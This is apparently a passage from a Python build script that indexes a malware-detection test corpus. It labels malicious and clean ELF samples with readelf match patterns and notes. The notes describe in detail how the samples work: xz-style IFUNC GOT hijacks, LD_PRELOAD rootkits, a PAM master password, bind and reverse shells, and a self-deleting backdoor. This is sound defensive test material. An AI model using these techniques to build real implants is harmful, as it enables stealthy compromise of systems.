#!/usr/bin/env python3
"""Write Corpus/index.json and Corpus/README.md from the sample table below.

Deterministic (sorted, no timestamps). Run by build.sh after the build; the
checker is check-index.py. Python 3 standard library only.
"""
import json
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True
sys.path.insert(0, HERE)
import samples  # noqa: E402  (the build table shared with build-matrix.py)

MAIN_ARCHS = ["x86_64", "aarch64", "armhf", "mipsel", "mips"]
IFUNC_ARCHS = ["x86_64", "aarch64", "armhf"]          # GCC has no IFUNC for MIPS
ALL_ARCHS = ["x86_64", "i386", "aarch64", "armhf", "mipsel", "mips", "riscv64", "ppc64le", "ppc64"]

R = {
    "got": "supply-chain/ifunc-resolver-got-hijack",
    "stack": "supply-chain/ifunc-resolver-stack-handoff",
    "loader": "supply-chain/ifunc-resolver-loader-hook",
    "xzobj": "supply-chain/xz-style-object",
    "corruptname": "supply-chain/test-blob-corrupt-name-decodes",
    "swap": "supply-chain/test-blob-swap-repairs-stream",
    "filler": "supply-chain/test-blob-filler-entropy-layout",
    "beside": "supply-chain/test-blob-beside-repaired-blob",
    "embedded": "supply-chain/embedded-compressed-elf",
    "buildscript": "supply-chain/build-script-blob-extraction",
    "hiding": "userland/preload-hiding-hooks",
    "xor": "userland/xor-hidden-strings",
    "masq": "userland/library-masquerade",
    "pam": "auth/pam-master-password",
    "rsa": "auth/sshd-rsa-hook",
    "preload": "rootfs/ld-so-preload-entry",
    "env": "rootfs/ld-preload-environment",
    "pamcfg": "rootfs/pam-config-flagged-module",
    "pammissing": "rootfs/pam-config-missing-module",
    "kernel": "kernel/syscall-table-hook",
    "ctor": "supply-chain/constructor-rewrites-loaded-objects",
    "defaultcred": "access/default-credential",
    "emptypw": "access/login-account-empty-password",
    "uid0": "access/additional-uid-zero-account",
    "netshell": "access/network-shell-at-boot",
    "emptyremote": "access/remote-login-accepts-empty-passwords",
    "pamexec": "access/pam-exec-exposes-password",
    "rootweak": "access/remote-root-login-weak-password",
    "authkey": "access/shipped-authorized-key",
    "rootlogin": "access/remote-root-password-login",
    "khide": "kernel/module-self-hiding",
    "kprobe": "kernel/kprobe-symbol-lookup",
    "kinline": "kernel/inline-hook-engine",
    "kftrace": "kernel/ftrace-ip-redirect",
    "kpacket": "kernel/triggered-shell",
    "bpfwrite": "kernel/bpf-writes-user-memory",
    "bpfauth": "auth/bpf-password-probe",
    "kcred": "kernel/root-credential-trigger",
    "kunsigned": "kernel/unsigned-module-in-signed-tree",
    "packetshell": "programs/packet-triggered-shell",
    "socketshell": "programs/bind-or-reverse-shell",
    "kthread": "programs/kernel-thread-masquerade",
    "packetfilter": "programs/packet-filter-program",
    "remotelogin": "programs/remote-login-service",
    "tracks": "programs/covers-tracks",
    "backdoortracks": "programs/backdoor-covers-tracks",
    "dropper": "programs/downloads-and-runs-hidden",
    "groupweak": "access/administrative-group-weak-password",
    "grouplogin": "access/administrative-group-login-account",
    "masterpw": "access/daemon-master-password",
    "magiccmd": "access/network-magic-string-command",
}
ACCOUNT_RULES = [R[k] for k in ("defaultcred", "emptypw", "uid0")]
REMOTE_RULES = [R[k] for k in ("netshell", "emptyremote", "rootweak")]
IFUNC_RULES = [R["got"], R["stack"], R["loader"], R["ctor"]]
KERNEL_RULES = [R[k] for k in ("kernel", "khide", "kprobe", "kinline", "kftrace", "kcred", "kunsigned", "kpacket")]
ELF_RULES = [R[k] for k in ("got", "stack", "loader", "ctor", "xzobj", "hiding", "xor", "masq",
                            "pam", "rsa")] + KERNEL_RULES
BLOB_RULES = [R[k] for k in ("corruptname", "swap", "filler", "beside", "embedded")]

SAMPLES = []
# Per-arch gaps, shown in notes and README.
GAPS = {
    "mipsel": "GCC/binutils for MIPS support no IFUNC (attribute and symbol type both rejected), "
              "so the IFUNC samples and the IFUNC in arch/hello are not built for MIPS.",
    "mips": "GCC/binutils for MIPS support no IFUNC (attribute and symbol type both rejected), "
            "so the IFUNC samples and the IFUNC in arch/hello are not built for MIPS.",
}


# "End of symbol name": readelf output always ends lines with a newline, and a
# versioned name continues with '@'. No anchors: '$' means end-of-input in Python re
# and NSRegularExpression unless multi-line mode is on.
END = "[^A-Za-z0-9_.]"


def P(args, regex):
    return {"readelf": list(args), "matches": regex}


def dyn(regex):
    return P(["--dyn-syms", "-W"], regex)


def export(name):
    """A defined, global, default-visibility FUNC in .dynsym (ppc64le adds a
    [<localentry>: N] column, hence the loose middle)."""
    return dyn("FUNC +GLOBAL +DEFAULT .*[0-9]+ %s%s" % (name, END))


def imports(name):
    return dyn("UND %s%s" % (name, END))


def add(path, technique, arch, kind, verdict, rules, must_not, props, notes, absent=None):
    entry = {
        "path": path,
        "technique": technique,
        "arch": arch,
        "kind": kind,
        "verdict": verdict,
        "rules": rules,
        "mustNotMatch": must_not,
        "properties": props,
        "notes": notes,
    }
    if absent:
        entry["absentProperties"] = absent
    SAMPLES.append(entry)


def gap_note(arch):
    return (" Toolchain gap: " + GAPS[arch]) if arch in GAPS else ""


# ---- ifunc ---------------------------------------------------------------------

for a in IFUNC_ARCHS:
    add("ifunc/xz-got-hijack/%s/libcrc_hijack.so" % a, "ifunc-got-hijack", a,
        "elf-shared-object", "malicious", [R["got"]], [],
        [P(["--dyn-syms", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ crc32_fast"),
         imports("dl_iterate_phdr"), imports("mprotect"),
         dyn("UND _r_debug@"),
         P(["-s", "-W"], "FUNC +LOCAL +DEFAULT +[0-9]+ crc_helper"),
         P(["-p", ".rodata"], "RSA_public_decrypt")],
        "Resolver crc32_resolve (the IFUNC value of crc32_fast) calls the static noinline "
        "crc_helper, which runs dl_iterate_phdr and falls back to _r_debug.r_map; patch_object "
        "compares DT_JMPREL/DT_PLTRELSZ/DT_SYMTAB/DT_STRTAB/DT_PLTREL and rewrite_slot does "
        "mprotect + store on the RSA_public_decrypt PLT slot of another object. The target name "
        "is a plain string here. Unstripped (symtab kept). The referenced _r_debug adds "
        "DT_NEEDED on the dynamic loader.")

for a in IFUNC_ARCHS:
    props = [P(["--dyn-syms", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ crc32_fast"),
             P(["--dyn-syms", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ crc64_fast"),
             imports("__stack_chk_fail"), imports("dl_iterate_phdr"),
             P(["-s", "-W"], "FUNC +LOCAL +DEFAULT +[0-9]+ lzma_cpuid_probe"),
             P(["-s", "-W"], "OBJECT +LOCAL +DEFAULT +[0-9]+ resolver_calls")]
    if a == "x86_64":
        props.append(P(["-r", "-W"], "R_X86_64_RELATIVE"))
    add("ifunc/xz-stack-handoff/%s/libcrc_handoff.so" % a, "ifunc-stack-handoff", a,
        "elf-shared-object", "malicious", [R["stack"]], [], props,
        "Built with -fstack-protector-all: both resolvers (crc32_resolve, crc64_resolve) have a "
        "canary and pass the address of a local array to the static helper get_cpuid_frame; "
        "resolver_calls (.bss) makes the second call go to second_stage, which calls "
        "lzma_cpuid_probe (global in C, .hidden in asm) through its GOT slot, a RELATIVE "
        "relocation back into .text (x86-64: call *lzma_cpuid_probe@GOTPCREL(%rip), built with "
        "-Wa,-mrelax-relocations=no, and the slot is rewritten around the call; other arches: "
        "through a volatile function pointer loaded from the GOT). hunt_cb walks DT_* tags and "
        "matches symbols by FNV-1a hash 0xdafa66cd; fallbacks are XOR-0x3c arrays. No plaintext "
        "RSA_public_decrypt anywhere in the file. Unstripped.",
        absent=[P(["-p", ".rodata"], "RSA_public_decrypt"),
                P(["-s", "-W"], "RSA_public_decrypt")])

for a in IFUNC_ARCHS:
    add("ifunc/xz-audit-hook/%s/libcrc_audit.so" % a, "ifunc-audit-hook", a,
        "elf-shared-object", "malicious", [R["loader"]], [],
        [P(["--dyn-syms", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ crc32_fast"),
         dyn("WEAK +DEFAULT +UND _rtld_global_ro@GLIBC_PRIVATE"),
         dyn("UND _dl_audit_symbind_alt@GLIBC_PRIVATE"),
         dyn("UND __tls_get_addr@"),
         P(["-d"], "NEEDED.*\\[(ld-linux|ld64|ld)[-a-z0-9_]*\\.so\\.[0-9]\\]"),
         P(["-p", ".rodata"], "RSA_public_decrypt")],
        "Resolver crc32_resolve calls install_audit_hook, which adds made-up offsets to "
        "_rtld_global_ro/_rtld_global (weak GLIBC_PRIVATE refs), mprotects and stores a fake "
        "audit-interface table whose symbind callback (la_symbind idea) swaps RSA_public_decrypt. "
        "Linked explicitly against the dynamic loader (DT_NEEDED ld-linux*), imports "
        "__tls_get_addr without having TLS. Unstripped.")

for a in IFUNC_ARCHS:
    add("ifunc/loader-write-no-mprotect/%s/libcrc_ldwrite.so" % a, "ifunc-audit-hook", a,
        "elf-shared-object", "malicious", [R["loader"]], [R["stack"]],
        [P(["--dyn-syms", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ crc32_fast"),
         dyn("WEAK +DEFAULT +UND _rtld_global@GLIBC_PRIVATE")],
        "ifunc/xz-audit-hook/src/crc_audit.c built with -DBS_NO_MPROTECT: the resolver's helper "
        "stores a fake audit-interface table and bumps the audit count in the loader's writable "
        "_rtld_global (ld.so's .data), so no page protection changes at all.",
        absent=[imports("mprotect")])

add("ifunc/xz-object/x86_64/liblzma_la-crc64-fast.o", "xz-style-object", "x86_64",
    "elf-relocatable", "malicious", [R["xzobj"]], [],
    [P(["-r", "-W"], "Relocation section '\\.rela\\.rodata\\.lzma_crc64_offsets'"),
     P(["-r", "-W"], "R_X86_64_GOT64"),
     P(["-r", "-W"], "R_X86_64_GOTOFF64"),
     P(["-r", "-W"], "R_X86_64_PLTOFF64"),
     P(["-r", "-W"], "R_X86_64_GOTPCREL +0+ lzma_cpu_probe - 4"),
     P(["-s", "-W"], "FUNC +LOCAL +DEFAULT +[0-9]+ \\.Lcrc_helper"),
     P(["-s", "-W"], "FUNC +GLOBAL +HIDDEN +[0-9]+ lzma_cpu_probe"),
     P(["-s", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ crc32_fast"),
     P(["-S", "-W"], "\\.text\\.lzma_crc_fast "),
     P(["-S", "-W"], "\\.text\\.lzma_crc32_generid ")],
    "ld -r of the small-model hijack code (ifunc/xz-got-hijack/src/crc_hijack.c with "
    "-DBS_OBJECT_TELLS -ffunction-sections -Wa,-mrelax-relocations=no) and a -mcmodel=large part "
    "(src/crc64_large.c), then objcopy --remove-section .comment --redefine-sym "
    "crc_helper=.Lcrc_helper. Tells: GOT64/GOTOFF64/PLTOFF64 in .rela.rodata.lzma_crc64_offsets "
    "and .rela.text; non-relaxable R_X86_64_GOTPCREL for call *lzma_cpu_probe (hidden); FUNC "
    "symbol .Lcrc_helper; .text.lzma_crc_fast holds hooked_rsa_public_decrypt and "
    ".text.lzma_crc32_generid holds rewrite_slot; no .comment. Note: the NOTYPE .LC0-.LC3 "
    "locals are normal for large-model code (GOTOFF64 to constants); only the FUNC .L symbol "
    "is the tell. Also embedded (xz-compressed) in blobs/tests/files/good-embedded.bin.",
    absent=[P(["-S", "-W"], "\\.comment")])

for a in IFUNC_ARCHS:
    add("ifunc/glibc-dispatch/%s/libdispatch.so" % a, "ifunc-cpu-dispatch", a,
        "elf-shared-object", "clean", [], IFUNC_RULES + [R["xzobj"]],
        [P(["--dyn-syms", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ bit_count"),
         P(["--dyn-syms", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ word_sum")],
        ("x86-64: popcount_resolve runs cpuid (__get_cpuid) and sum_resolve uses "
         "__builtin_cpu_init/__builtin_cpu_supports (imports __cpu_model/__cpu_indicator_init "
         "from libgcc, statically linked)." if a == "x86_64" else
         "popcount_resolve tests the hwcap argument; sum_resolve calls getauxval(AT_HWCAP).") +
        " Each resolver returns one of two local implementations. Hard negative for the IFUNC rules.")

for a in IFUNC_ARCHS:
    add("ifunc/xz-frame-handoff/%s/libcrc_frame.so" % a, "ifunc-stack-handoff", a,
        "elf-shared-object", "malicious", [R["stack"]], [R["got"], R["loader"]],
        [P(["--dyn-syms", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ crc_fast")],
        "Stripped. The resolver passes the leaf, four feature-word addresses and two addresses "
        "in its own frame to an unnamed local helper (seven arguments: the last goes on the stack "
        "on x86-64, the last three on 32-bit ARM). The helper increments a .bss counter and only "
        "the second call goes on to a function that swaps a pointer slot found at run time from "
        "the handed-over frame (no static address, no mprotect, no loader symbol, no target "
        "name) and, on x86-64, calls a hidden function of its own through its GOT slot.",
        absent=[P(["-S", "-W"], "\\.symtab")])

for a in IFUNC_ARCHS:
    add("ifunc/dispatch-cpuid-helper/%s/libdispatch_helper.so" % a, "ifunc-cpu-dispatch", a,
        "elf-shared-object", "clean", [], IFUNC_RULES + [R["xzobj"]],
        [P(["--dyn-syms", "-W"], "IFUNC +GLOBAL +DEFAULT +[0-9]+ data_checksum"),
         imports("__stack_chk_fail")],
        "Hard negative, built at -O0 with -fstack-protector-all: checksum_resolve has a canary and "
        "passes the addresses of its locals (&eax..&edx on x86, two capability words elsewhere) to "
        "a non-inlined helper (query_cpu / query_caps), and caches the answer in a static set "
        "once. No counter, no GOT store, no mprotect, no loader reference.")

for a in MAIN_ARCHS:
    add("ifunc/ctor-got-rewrite/%s/libctor_rewrite.so" % a, "constructor-got-rewrite", a,
        "elf-shared-object", "malicious", [R["ctor"]], [R["got"], R["stack"], R["loader"]],
        [imports("dl_iterate_phdr"), imports("mprotect"),
         P(["-S", "-W"], "\\.init_array")],
        "The GOT rewrite run from a constructor: at_load (.init_array) calls dl_iterate_phdr with "
        "visit_object, which walks each object's DT_JMPREL/DT_PLTRELSZ/DT_SYMTAB/DT_STRTAB/"
        "DT_PLTREL, matches relocation names by a djb2 hash (no target name in the file), "
        "mprotects the page and stores its replacement into the slot. No IFUNC. On MIPS the switch "
        "over the tags is a gp-relative jump table (sll; addu; lw; addu gp; jr).")

# ---- preload -------------------------------------------------------------------

HOOK_EXPORTS = ["readdir", "readdir64", "fopen", "fopen64", "stat", "lstat", "stat64",
                "lstat64", "__xstat", "__lxstat", "__xstat64", "__lxstat64", "accept"]

for a in MAIN_ARCHS:
    add("preload/rootkit/%s/libprocesshider.so" % a, "preload-rootkit", a,
        "elf-shared-object", "malicious", [R["hiding"]], [R["xor"], R["masq"]],
        [export(n) for n in HOOK_EXPORTS] +
        [imports("dlsym"), P(["-S", "-W"], "\\.init_array"),
         P(["-p", ".rodata"], "bs_hideme"), P(["-p", ".rodata"], "ld\\.so\\.preload"),
         P(["-p", ".rodata"], "libc\\.so\\.6")],
        "Exports the hiding set (readdir/readdir64, fopen/fopen64, stat/lstat/stat64/lstat64, "
        "__xstat/__lxstat/__xstat64/__lxstat64) and accept; constructor rk_init (.init_array) "
        "fills the originals with dlsym(RTLD_NEXT, name), falling back to dlopen(\"libc.so.6\"). "
        "Hides names containing bs_hideme or ld.so.preload and /proc/<pid> whose cmdline contains "
        "bs_hideme. Plain strings." + gap_note(a))
    add("preload/rootkit-xor/%s/libhidexor.so" % a, "preload-rootkit-xor", a,
        "elf-shared-object", "malicious", [R["hiding"], R["xor"]], [R["masq"]],
        [export(n) for n in HOOK_EXPORTS] +
        [imports("dlsym"), P(["-S", "-W"], "\\.init_array")],
        "Same source as preload/rootkit built with -DBS_XOR_STRINGS: every string (/proc, "
        "cmdline, ld.so.preload, libc.so.6, bs_hideme, LD_PRELOAD, the 13 dlsym names) is a "
        "one-byte XOR (key 0x42) array in .rodata, decoded at run time by the static xs(). "
        "The encoded arrays have opaque symtab names (bs_k00..bs_k18). libc.so.6 still appears "
        "in .dynstr as DT_NEEDED, and the hook names appear in .dynstr as exports; neither is "
        "in .rodata." + gap_note(a),
        absent=[P(["-p", ".rodata"], "ld\\.so\\.preload|bs_hideme|/proc|libc\\.so\\.6|LD_PRELOAD")])
    add("preload/selinux-masquerade/%s/libselinux.so.1" % a, "library-masquerade", a,
        "elf-shared-object", "malicious", [R["masq"], R["hiding"]], [],
        [P(["-d"], "SONAME.*\\[libselinux\\.so\\.1\\]"), export("readdir"), export("fopen"),
         imports("dlsym")],
        "The plain rootkit linked with -Wl,-soname,libselinux.so.1 and named libselinux.so.1; it "
        "has none of libselinux's exports (is_selinux_enabled, getfilecon, setexeccon, ...).",
        absent=[dyn("is_selinux_enabled|getfilecon|security_getenforce")])
    add("preload/fakeroot-like/%s/libfakeroot-sample.so" % a, "preload-benign", a,
        "elf-shared-object", "clean", [], [R["hiding"], R["xor"], R["masq"]],
        [export("stat"), export("lstat"), export("chown"), export("open"), imports("dlsym"),
         P(["-d"], "SONAME.*\\[libfakeroot-sample\\.so\\]"),
         P(["-p", ".rodata"], "pretends files are owned by root")],
        "fakeroot-style: shadows stat/lstat/fstat/chown/lchown/fchown/open/open64 through "
        "dlsym(RTLD_NEXT); no readdir/hiding set, no XOR, no constructor, describes itself in "
        "fakeroot_sample_ident.")
    add("preload/malloc-replacement/%s/libminimalloc.so" % a, "preload-benign", a,
        "elf-shared-object", "clean", [], [R["hiding"], R["xor"], R["masq"]],
        [export(n) for n in ("malloc", "free", "calloc", "realloc", "posix_memalign",
                             "memalign", "aligned_alloc", "malloc_usable_size")] +
        [imports("mmap")],
        "jemalloc/tcmalloc-style malloc replacement on top of mmap; shadows libc names "
        "legitimately.")

# Directory hiders (one source, preload/hider/src/hider.c, configured per sample).
HIDERS = [
    ("hider-minimal", "libminhide.so", ["readdir", "readdir64"], ["dlsym"],
     ["fopen", "stat", "opendir"], "plain",
     "The smallest hider: exports only readdir and readdir64, each fetching its original with "
     "dlsym(RTLD_NEXT, name) on first use (no constructor) and skipping entries whose name "
     "contains bs_hideme. Plain strings."),
    ("hider-dlvsym", "libvhide.so",
     ["readdir", "readdir64", "fopen", "stat", "lstat", "access", "unlink"], ["dlvsym"], [], "plain",
     "Fetches every original with dlvsym(RTLD_NEXT, name, base GLIBC version of the "
     "architecture) from a constructor; hides entries and paths containing bs_hideme. Plain "
     "strings."),
    ("hider-dlopen-libc", "libohide.so",
     ["readdir", "readdir64", "fopen", "stat", "lstat", "access", "unlink"], ["dlopen", "dlsym"], [],
     "xor",
     "Opens libc by its soname (dlopen(\"libc.so.6\"), RTLD_NOLOAD first) and takes the originals "
     "with dlsym(handle, name) from a constructor: no RTLD_NEXT anywhere. Strings are one-byte "
     "XOR (key 0x5a) arrays decoded by the static unxor()."),
    ("hider-dlopen-path", "libphide.so", ["readdir", "readdir64"], ["dlopen", "dlsym"],
     ["fopen", "stat"], "runtime",
     "Two exports; opens libc by its full path (/lib/<triple>/libc.so.6) on first use and takes "
     "the originals with dlsym(handle, name). Every string is assembled byte by byte at run time "
     "(volatile stores of immediates), so none is in .rodata."),
    ("hider-dlvsym-versions", "libbhide.so",
     ["readdir", "readdir64", "fopen", "stat", "lstat", "access", "unlink"], ["dlvsym", "snprintf"], [],
     "runtime",
     "Finds each original by brute force: dlvsym(RTLD_NEXT, name, v) for v = GLIBC_2.<n> and "
     "GLIBC_2.<n>.<m> (formatted with snprintf) until one answers; lazily, no constructor. Strings "
     "assembled at run time."),
    ("hider-syscall", "libshide.so", ["opendir", "readdir", "readdir64", "closedir"], ["syscall"],
     ["dlsym", "dlvsym", "dlopen"], "plain",
     "No lookup at all: opendir/readdir/readdir64/closedir are reimplemented on libc's syscall() "
     "(openat, getdents64, close) over a static table of directory handles, skipping bs_hideme."),
    ("hider-raw-syscall", "librhide.so", ["opendir", "readdir", "readdir64", "closedir"], [],
     ["dlsym", "dlvsym", "dlopen", "syscall"], "xor",
     "Like hider-syscall but with inline system-call instructions (syscall / svc 0): listing "
     "calls nothing in libc. XOR strings, a constructor that does nothing but exist in the "
     "shape (BS_CTOR has no originals to fetch here)."),
    ("hider-dlsym-hook", "libdhide.so", ["readdir", "readdir64", "dlsym"], ["dlvsym"], ["fopen"], "xor",
     "Exports dlsym itself: lookups of readdir/readdir64 (any handle) return the hooks, so a checker "
     "comparing dlsym answers sees no difference; the real dlsym comes from dlvsym(RTLD_NEXT, "
     "\"dlsym\", GLIBC_2.34 or the base version); the originals from the real dlsym(RTLD_NEXT) in a "
     "constructor. XOR strings."),
]
for a in MAIN_ARCHS:
    for name, out, exports, needs, absent_dyn, strings, note in HIDERS:
        props = [export(n) for n in exports] + [imports(n) for n in needs]
        absent = [dyn("FUNC +GLOBAL +DEFAULT .*[0-9]+ %s%s" % (n, END)) if n in ("fopen", "stat", "opendir")
                  else imports(n) for n in absent_dyn]
        if strings != "plain":
            absent.append(P(["-p", ".rodata"], "bs_hideme|libc\\.so|readdir"))
        # The XOR builds that hide two or more words also prove userland/xor-hidden-strings (the
        # raw-syscall one hides a single word and looks nothing up by name).
        rules = [R["hiding"]] + ([R["xor"]] if strings == "xor" and "dlsym" in needs + exports else [])
        add("preload/%s/%s/%s" % (name, a, out), "preload-" + name, a, "elf-shared-object",
            "malicious", rules, [R["masq"]], props, note + gap_note(a), absent=absent)

# Legitimate interposers: each shadows libc functions on purpose and fetches the originals
# the way the hiders do; none lists directories for the caller.
BENIGN_PRELOADS = [
    ("eatmydata-like", "libeatmydata-like.so", ["fsync", "fdatasync", "sync", "msync", "open", "open64"],
     ["dlsym", "getenv"],
     "eatmydata-style: fsync/fdatasync/sync/syncfs/msync/sync_file_range return at once, open/open64 "
     "drop O_SYNC; originals by dlsym(RTLD_NEXT) in a constructor."),
    ("proxychains-like", "libproxy-like.so", ["connect", "getaddrinfo", "gethostbyname", "close"],
     ["dlopen", "dlsym", "fopen"],
     "proxychains/torsocks-style: connect and name resolution through a SOCKS proxy read from a "
     "configuration file; opens libc with dlopen(\"libc.so.6\") and takes the originals with "
     "dlsym(handle) (as torsocks does). Hard negative for the dlopen-handle hiders."),
    ("faketime-like", "libfaketime-like.so", ["time", "gettimeofday", "clock_gettime", "stat", "lstat", "fstat"],
     ["dlsym", "dlvsym", "getenv"],
     "faketime-style: shifted clock and file timestamps; dlsym(RTLD_NEXT) and dlvsym(RTLD_NEXT, "
     "\"clock_gettime\", version) from a constructor."),
    ("snoopy-like", "libsnoopy-like.so", ["execve", "execv"], ["dlsym", "syslog"],
     "snoopy-style command logger: execve/execv log the command line to syslog and call the "
     "original from dlsym(RTLD_NEXT)."),
    ("sanitizer-like", "libsanitizer-like.so", ["readdir", "readdir64", "opendir", "stat", "read", "write",
                                                "__interceptor_readdir"], ["dlsym"],
     "Sanitizer-runtime-style interceptor layer: ~250 libc functions (readdir, opendir and the stat "
     "family among them, and the I/O data path) exported under their names and as "
     "__interceptor_<name>, originals by dlsym(RTLD_NEXT) in a constructor."),
    ("malloc-tracer", "libmalloc-tracer.so", ["malloc", "free", "calloc", "realloc"], ["dlsym", "write"],
     "memusage-style allocation counter: malloc/free/calloc/realloc forward to dlsym(RTLD_NEXT) "
     "originals and a destructor writes totals."),
]
for a in MAIN_ARCHS:
    for name, out, exports, needs, note in BENIGN_PRELOADS:
        add("preload/%s/%s/%s" % (name, a, out), "preload-benign", a, "elf-shared-object", "clean", [],
            [R["hiding"], R["xor"], R["masq"]],
            [export(n) for n in exports] + [imports(n) for n in needs] +
            [P(["-d"], "SONAME.*\\[%s\\]" % out.replace(".", "\\."))], note)

# ---- auth ----------------------------------------------------------------------

for a in MAIN_ARCHS:
    add("auth/pam-master-password/%s/pam_backdoor.so" % a, "pam-master-password", a,
        "elf-shared-object", "malicious", [R["pam"]], [],
        [export("pam_sm_authenticate"), export("pam_sm_setcred"),
         imports("pam_get_authtok"), imports("strcmp"),
         P(["-d"], "NEEDED.*\\[libpam\\.so\\.0\\]"),
         P(["-p", ".rodata"], "Backsight-corpus-master-pw-2024")],
        "pam_sm_authenticate: pam_get_user, pam_get_authtok, then strcmp(password, "
        "\"Backsight-corpus-master-pw-2024\") (literal in .rodata) returning PAM_SUCCESS (0) before "
        "real_password_check. PAM prototypes are declared in Corpus/support/bs_pam.h; linked "
        "against a build-time stub libpam.so.0 (not shipped) so DT_NEEDED libpam.so.0 is present "
        "as in real modules.")
    add("auth/pam-reads-file/%s/pam_filepass.so" % a, "pam-benign", a,
        "elf-shared-object", "clean", [], [R["pam"]],
        [export("pam_sm_authenticate"), imports("pam_get_authtok"), imports("strcmp"),
         imports("fopen"), P(["-p", ".rodata"], "/etc/security/filepass\\.conf")],
        "Compares the password (strcmp) with a line read from a file (fgets into a stack "
        "buffer); the only literals are the file name and option prefix. Hard negative for "
        "auth/pam-master-password.")
    add("auth/sshd-rsa-hook/%s/librsahook.so" % a, "sshd-rsa-hook", a,
        "elf-shared-object", "malicious", [R["rsa"]], [],
        [export("RSA_public_decrypt"), imports("dlsym"),
         P(["-p", ".rodata"], "RSA_public_decrypt"),
         P(["-d"], "SONAME.*\\[librsahook\\.so\\]")],
        "Not libcrypto, exports only RSA_public_decrypt, which forwards to "
        "dlsym(RTLD_NEXT, \"RSA_public_decrypt\") and counts a magic 8-byte prefix.")

# ---- misc ----------------------------------------------------------------------

for a in MAIN_ARCHS:
    add("crypto/minicrypto/%s/libminicrypto.so.1" % a, "crypto-benign", a,
        "elf-shared-object", "clean", [], [R["rsa"]],
        [dyn("FUNC +GLOBAL +DEFAULT +[0-9]+ RSA_public_decrypt@@MINICRYPTO_1\\.0"),
         dyn("RSA_private_encrypt@@"), dyn("RSA_get0_key@@"), dyn("RSA_set0_key@@"),
         dyn("RSA_verify@@"), dyn("BN_mod_exp@@"),
         P(["-d"], "SONAME.*\\[libminicrypto\\.so\\.1\\]"),
         P(["-V"], "MINICRYPTO_1\\.0")],
        "A crypto library that legitimately exports RSA_public_decrypt among RSA_new/free/size/"
        "bits/up_ref/get0_key/set0_key/public_encrypt/private_decrypt/private_encrypt/sign/verify "
        "and BN_new/free/set_word/get_word/num_bits/num_bytes/bin2bn/bn2bin/mod_exp (toy math), "
        "versioned MINICRYPTO_1.0. Hard negative for auth/sshd-rsa-hook.")
    add("misc/benign-constructor/%s/libbenignctor.so" % a, "constructor-benign", a,
        "elf-shared-object", "clean", [], [R["hiding"], R["xor"], R["masq"]],
        [P(["-S", "-W"], "\\.init_array"), export("benign_debug_level"), imports("getenv")],
        "Constructor benign_init only reads BENIGN_DEBUG with getenv and sets a static int.")

# ---- programs ------------------------------------------------------------------
# Entries of samples.py (link="pie" in every variant; link="static", stripped, for the
# backdoors, in the base and samples.STATIC_VARIANTS).

PROGRAM_ARCHS = ["x86_64", "armhf", "mipsel"]
TRACE_RULES = [R[k] for k in ("tracks", "backdoortracks", "dropper")]
PROGRAM_RULES = [R[k] for k in ("packetshell", "socketshell", "kthread")] + TRACE_RULES


def static_stripped():
    return ([P(["-h", "-W"], "Type: +EXEC")], [P(["-S", "-W"], "\\.symtab"), P(["-l", "-W"], "INTERP")])


for a in PROGRAM_ARCHS:
    for static in (False, True):
        suffix = "-static-stripped" if static else ""
        link = "static (glibc), stripped: only system calls with constant numbers name the calls" if static else "dynamic (PIE)"
        props, absent = static_stripped() if static else ([imports("socket"), imports("setsockopt"), imports("execl")], None)
        add("programs/magic-packet-listener/%s/magic_listener%s" % (a, suffix), "packet-triggered-shell", a,
            "elf-executable", "malicious", [R["packetshell"], R["socketshell"]],
            [r for r in PROGRAM_RULES if r not in (R["packetshell"], R["socketshell"])],
            props + [P(["-p", ".rodata"], "/bin/sh")],
            "socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP)) with a classic BPF filter compiled by tcpdump "
            "('udp and dst port 7777 and udp[8:4] = 0x51a7c0de', 13 instructions in .rodata) attached "
            "with setsockopt(SOL_SOCKET, SO_ATTACH_FILTER); on a match it forks, connects back to the "
            "sender, dup2s the socket onto 0, 1, 2 and runs execl(\"/bin/sh\", \"sh\"). " + link + ".",
            absent=absent)
        props, absent = static_stripped() if static else ([imports("accept"), imports("dup2"), imports("execl")], None)
        add("programs/bind-shell/%s/bind_shell%s" % (a, suffix), "bind-shell", a,
            "elf-executable", "malicious", [R["socketshell"]],
            [r for r in PROGRAM_RULES if r != R["socketshell"]] + [R["packetfilter"], R["remotelogin"]],
            props + [P(["-p", ".rodata"], "/bin/sh")],
            "Listens on TCP 31337; each accepted connection gets a child that dup2s it onto 0, 1, 2 and "
            "runs execl(\"/bin/sh\", \"sh\", \"-i\"). " + link + ".", absent=absent)
        props, absent = static_stripped() if static else ([imports("connect"), imports("dup2"), imports("execve")], None)
        add("programs/reverse-shell/%s/reverse_shell%s" % (a, suffix), "reverse-shell", a,
            "elf-executable", "malicious", [R["socketshell"]],
            [r for r in PROGRAM_RULES if r != R["socketshell"]] + [R["packetfilter"], R["remotelogin"]],
            props + [P(["-p", ".rodata"], "/bin/bash")],
            "Connects to 203.0.113.10:4444 (TEST-NET-3), dup2s the socket onto 0, 1, 2 and runs "
            "execve(\"/bin/bash\", {\"bash\", \"-i\"}, NULL). " + link + ".", absent=absent)
        props, absent = static_stripped() if static else ([imports("readlink"), imports("unlink"), imports("execl")], None)
        add("programs/self-deleting-backdoor/%s/self_delete%s" % (a, suffix), "self-deleting-backdoor", a,
            "elf-executable", "malicious", [R["socketshell"], R["tracks"], R["backdoortracks"]],
            [r for r in PROGRAM_RULES if r not in (R["socketshell"], R["tracks"], R["backdoortracks"])]
            + [R["packetfilter"], R["remotelogin"]],
            props + [P(["-p", ".rodata"], "/proc/self/exe")],
            "First reads the target of /proc/self/exe into a stack buffer with readlink and unlinks "
            "that buffer (deletes its own executable), then listens on TCP 40404 and gives each "
            "client execl(\"/bin/sh\", \"sh\") on descriptors 0, 1, 2. " + link + ".", absent=absent)
        props, absent = static_stripped() if static else ([imports("unsetenv"), imports("truncate"), imports("connect")], None)
        add("programs/history-wiping-shell/%s/history_wipe%s" % (a, suffix), "history-wiping-reverse-shell", a,
